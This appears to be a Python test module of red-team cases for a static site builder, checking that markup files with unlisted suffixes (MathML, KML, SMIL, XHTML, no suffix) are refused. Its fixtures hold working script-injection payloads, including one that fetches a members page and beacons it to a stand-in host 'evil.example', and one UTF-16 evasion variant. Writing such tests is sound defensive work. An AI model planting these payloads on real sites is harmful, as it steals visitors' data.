"""Red-team cases: files under docs_dir a browser renders as a document, though their suffix is not on the list.

A static host chooses the content type from the suffix, and every XML type (`application/*+xml`,
`text/xml`) is shown by a browser as an XML document, in which an element of the XHTML
namespace runs: `<html:script>` in a `.mml` (MathML), `.kml`, `.smil`, `.xspf`… file runs on
the site's domain. A list of suffixes never ends, so the bytes decide: a file under docs_dir
that is markup (begins with `<`) is refused unless it is a checked SVG or listed in `raw_files`.
"""

from __future__ import annotations

from .cases import Case

XHTML_SCRIPT = (
    '<math xmlns="http://www.w3.org/1998/Math/MathML" xmlns:h="http://www.w3.org/1999/xhtml">'
    "<h:script>fetch('/members/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</h:script>"
    "</math>"
)

PAGE_LINKING = ("content/maths.md", "# Maths\n\n[The formula](maths/formula.mml)\n")

CASES: list[Case] = [
    Case("redteam-mathml", "content/maths/formula.mml", XHTML_SCRIPT, (PAGE_LINKING,)),
    Case("redteam-kml", "content/map/offices.kml", '<?xml version="1.0"?>\n' + XHTML_SCRIPT.replace("math", "kml"), (("content/map.md", "[Offices](map/offices.kml)\n"),)),
    Case("redteam-xhtm", "content/old/page.XHTM", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
    Case("redteam-utf16-smil", "content/media/show.smil", "\ufeff".encode("utf-16-le") + "  ".encode("utf-16-le") + XHTML_SCRIPT.encode("utf-16-le")),
    Case("redteam-no-suffix", "content/downloads/readme", "<!doctype html><script>alert(document.domain)</script>"),
]
